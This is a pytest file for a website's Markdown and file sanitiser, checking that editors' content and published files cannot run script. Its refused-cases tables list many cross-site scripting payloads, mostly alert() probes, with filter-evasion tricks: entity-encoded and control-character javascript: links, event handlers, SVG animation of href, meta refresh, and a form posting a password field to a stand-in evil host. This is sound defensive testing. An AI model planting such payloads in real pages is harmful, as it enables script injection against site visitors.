"""The check of editors' Markdown: what the allow-list refuses is reported at its line, the rest passes.

Bodies are rendered as the site renders them and the HTML is read by a
tokenizer, so a disguise (entities, control characters, reference-style
links, attribute lists, odd spacing) changes nothing. Each body starts on
file line 10 here.
"""

from __future__ import annotations

import pytest

from tip_site.core.markup_check import check_markup, could_hold_refused_markup
from tip_site.core.problems import Problems

FIRST_LINE = 10


def problems_in(body: str) -> list[tuple[int | None, str]]:
    problems = Problems()
    check_markup(body, "content/resources/x.md", FIRST_LINE, problems)
    return [(p.line, p.message) for p in problems.errors]


# (case, body, line of the problem in the body (1 = first), words in the message)
REFUSED = [
    ("script", "Intro.\n\n<script>alert(1)</script>", 3, "<script> is not allowed"),
    ("script-in-capitals", "<SCRIPT SRC=https://xss.example/x.js></SCRIPT>", 1, "<script> is not allowed"),
    ("script-with-slash", '<SCRIPT/XSS SRC="https://xss.example/x.js"></SCRIPT>', 1, "<script> is not allowed"),
    ("nested-script", "<scr<script>ipt>alert(1)</script>", 1, "is not allowed"),
    ("svg-onload", "a\n\n<svg/onload=alert(1)>", 3, "<svg> is not allowed"),
    ("img-onerror", "<img src=x onerror=alert(1)>", 1, "'onerror' could run script"),
    ("img-onerror-after-slash", '<img src="a.png" / onerror=alert(1)>', 1, "'onerror' could run script"),
    ("body-onload", "<body onload=alert(1)>", 1, "<body> is not allowed"),
    ("details-ontoggle", "<details open ontoggle=alert(1)><summary>x</summary></details>", 1, "'ontoggle' could run script"),
    ("iframe", "<iframe src=https://example.org></iframe>", 1, "<iframe> is not allowed"),
    ("object", '<object data="x.swf"></object>', 1, "<object> is not allowed"),
    ("embed", '<embed src="data:image/svg+xml;base64,PHN2Zz4=">', 1, "<embed> is not allowed"),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', 1, "<meta> is not allowed"),
    ("base-href", '<base href="javascript:alert(1)//">', 1, "<base> is not allowed"),
    ("link-stylesheet", '<link rel="stylesheet" href="javascript:alert(1)">', 1, "<link> is not allowed"),
    ("style-element", "<style>@import 'https://evil.example/x.css';</style>", 1, "<style> is not allowed"),
    ("style-attribute", '<p style="position:fixed;top:0;left:0;width:100%">Over the exit button</p>', 1, "style"),
    ("form", '<form action="https://evil.example"><input name=pw></form>', 1, "<form> is not allowed"),
    ("math", "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>", 1, "<math> is not allowed"),
    ("inline-link", "First line.\n\n[Click](javascript:alert(1))", 3, "'javascript:' address"),
    ("inline-link-capitals", "[Click](JaVaScRiPt:alert(1))", 1, "'javascript:' address"),
    ("inline-link-entity", "[Click](&#106;avascript:alert(1))", 1, "'javascript:' address"),
    ("inline-link-hex-entities", "[Click](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1))", 1, "'javascript:' address"),
    ("inline-link-control-character", "[Click](java\x01script:alert(1))", 1, "'javascript:' address"),
    ("reference-link", "See [the page][p].\n\nMore text.\n\n[p]: javascript:alert(1)", 5, "'javascript:' address"),
    ("reference-link-titled", "[x][p]\n\n[p]: <vbscript:msgbox(1)> \"Title\"", 3, "'vbscript:' address"),
    ("autolink", "Go <javascript:alert(1)>", 1, "'javascript:' address"),
    ("image-data", "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)", 1, "'data:' address"),
    ("html-link-tab", '<a href="jav&#x09;ascript:alert(1)">x</a>', 1, "'javascript:' address"),
    ("html-link-colon-entity", '<a href="javascript&colon;alert(1)">x</a>', 1, "'javascript:' address"),
    ("html-link-leading-control", '<a href="&#14;javascript:alert(1)">x</a>', 1, "'javascript:' address"),
    ("html-link-slash-attribute", '<a/href="javascript:alert(1)">x</a>', 1, "holds HTML"),  # Markdown shows it as text; a browser would not
    ("escaped-tags-in-prose", "Pasted: &lt;script&gt;alert(1)&lt;/script&gt;", 1, "holds HTML"),
    ("blockquote-cite", '<blockquote cite="javascript:alert(1)">x</blockquote>', 1, "'javascript:' address"),
    ("attribute-list-handler", "[Go](https://example.org){ onclick=alert(1) }", 1, "'onclick' could run script"),
    ("attribute-list-class", "[Exit](https://evil.example){ .tip-exit__button }", 1, "class 'tip-exit__button'"),
    ("attribute-list-target", "[Go](https://example.org){ target=_blank }", 1, "'target' is not allowed"),
    ("reserved-id", "## Heading { #__config }", 1, "'__config' is used by the site"),
    ("image-elsewhere", "![A chart](https://tracker.example/pixel.png)", 1, "is on another website"),
    ("image-elsewhere-by-reference", "[x](https://example.org)\n\n![A chart][c]\n\n[c]: https://tracker.example/pixel.png", 5, "is on another website"),
    ("markup-in-a-title", '<abbr title="<script>alert(1)</script>">x</abbr>', 1, "'title' holds HTML"),
    ("markdown-inside-html", '<div markdown>\n\n[x](javascript:alert(1))\n\n</div>', 3, "'javascript:' address"),
]


@pytest.mark.parametrize("body, line, words", [c[1:] for c in REFUSED], ids=[c[0] for c in REFUSED])
def test_refused_at_its_line(body, line, words):
    found = problems_in(body)
    assert found, "nothing was refused"
    assert any(words in message for _, message in found), found
    assert found[0][0] == FIRST_LINE + line - 1, found


ALLOWED = [
    ("prose", "Plain words about data: figures, a script for the meeting, 5 < 6 & more."),
    ("links", "[About](../about.md#why) [Site](https://example.org/a_(b)) <https://example.org> <someone@example.org> [Call](tel:999)"),
    ("reference-link", "See [the page][p].\n\n[p]: https://example.org \"Title\""),
    ("image", "![Members at the joint event](images/event.jpg){ width=300 height=200 }"),
    ("button", "[Join](https://example.org/join){ .md-button .md-button--primary }"),
    ("table-alignment", "| a | b | c |\n|:--|:-:|--:|\n| 1 | 2 | 3 |"),
    ("admonition", '!!! warning "Take care"\n    Text.\n\n??? note "More"\n    Hidden.'),
    ("footnote", "Text[^1].\n\n[^1]: The note."),
    ("abbreviation", "The TIP meets.\n\n*[TIP]: Trauma Informed Partnership Network"),
    ("code", "```html\n<script>alert(1)</script>\n```\n\n`<iframe>` and\n\n    <object>"),
    ("inline-html", "Text with <strong>strong</strong>, <em>em</em>, <abbr title=\"x\">x</abbr>, <kbd>Ctrl</kbd>, <sub>2</sub> and a<br>break."),
    ("own-id", "## Heading { #my-anchor }\n\n<span id=\"there\">x</span>"),
    ("language", '<p lang="cy">Croeso</p>'),
    ("comment", "<!-- a note for other editors -->"),
    ("entities", "Tom &amp; Jerry &lt;3 &copy;"),
]


@pytest.mark.parametrize("body", [c[1] for c in ALLOWED], ids=[c[0] for c in ALLOWED])
def test_what_editors_may_write_passes(body):
    assert problems_in(body) == []


@pytest.mark.parametrize("body", [c[1] for c in REFUSED], ids=[c[0] for c in REFUSED])
def test_the_quick_look_never_skips_a_refused_body(body):
    assert could_hold_refused_markup(body)


@pytest.mark.parametrize(
    "body",
    [
        "Plain text.",
        "A [link](https://example.org) and [another](../about.md).",
        "Note: colons in prose: fine.",
        "Health & care",
        "![A photo](images/a.png)\n\n- [NHS advice](https://www.nhs.uk/) and [more][m]\n\n[m]: ../about.md",
    ],
)
def test_plain_bodies_skip_rendering(body):
    assert not could_hold_refused_markup(body)


def test_every_problem_of_a_body_is_reported_each_at_its_line():
    body = "<script>alert(1)</script>\n\nText.\n\n[x](javascript:alert(2))\n\n<img src=a.png onerror=alert(3)>"
    assert [line for line, _ in problems_in(body)] == [10, 14, 16]


# --- Files a browser would run, among those docs/ and content/ publish ---

ACTIVE = [
    ("docs/evil.html", "<script>alert(1)</script>", None, "would run in visitors' browsers"),
    ("docs/assets/x.js", "alert(1)", None, "would run in visitors' browsers"),
    ("content/resources/files/handout.xhtml", "<html/>", None, "would run in visitors' browsers"),
    ("content/newsletters/images/data.xml", '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>', None, "would run"),
    ("content/newsletters/images/chart.svg", '<svg xmlns="http://www.w3.org/2000/svg">\n<script>alert(1)</script></svg>', 2, "a <script> element"),
    ("docs/images/logo.svg", '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', 1, "event handler ('onload')"),
    ("docs/images/link.svg", '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">\n<a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', 2, "'javascript:' address"),
    ("docs/images/anim.svg", '<svg xmlns="http://www.w3.org/2000/svg"><a><set attributeName="href" to="javascript:alert(1)"/></a></svg>', 1, "an animation of 'href'"),
    ("docs/images/html.svg", '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><p xmlns="http://www.w3.org/1999/xhtml">x</p></foreignObject></svg>', 1, "<foreignObject>"),
]


@pytest.mark.parametrize("path, text, line, words", ACTIVE, ids=[a[0] for a in ACTIVE])
def test_files_that_would_run_are_refused(tmp_path, path, text, line, words):
    from tip_site.core.active_files import check_active_files

    (tmp_path / path).parent.mkdir(parents=True, exist_ok=True)
    (tmp_path / path).write_text(text, encoding="utf-8")
    (tmp_path / "docs/images").mkdir(parents=True, exist_ok=True)
    (tmp_path / "docs/images/fine.svg").write_text('<svg xmlns="http://www.w3.org/2000/svg"><a href="../about/"><circle r="1"/></a></svg>', encoding="utf-8")
    problems = Problems()
    check_active_files(tmp_path, tmp_path / "docs", tmp_path / "content", problems)
    assert [(p.path, p.line) for p in problems.errors] == [(path, line)], problems.errors
    assert words in problems.errors[0].message
